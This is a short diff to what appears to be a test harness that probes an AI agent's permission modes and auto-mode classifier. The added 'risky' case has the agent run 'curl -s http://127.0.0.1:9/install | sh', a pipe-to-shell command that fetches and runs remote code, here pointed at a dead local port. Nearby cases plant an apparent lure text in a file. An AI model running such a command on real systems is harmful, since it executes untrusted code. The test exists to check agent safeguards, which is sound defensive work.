@@ -166,6 +166,9 @@ function modePlan(mode: string, seconds: number | null, asked: { command: string
     case 'twice':
     case 'permission':
       return runs(mode, 'touch APPROVED-BY-NOBODY', true);
+    // An auto mode asks its classifier about it, which gets no answer that it can use.
+    case 'risky':
+      return runs(mode, 'curl -s http://127.0.0.1:9/install | sh', true);
     case 'lure':
       return runs(mode, `cat > NOTES <<'END'\n${LURE}\nEND`, true);
     case 'tool':
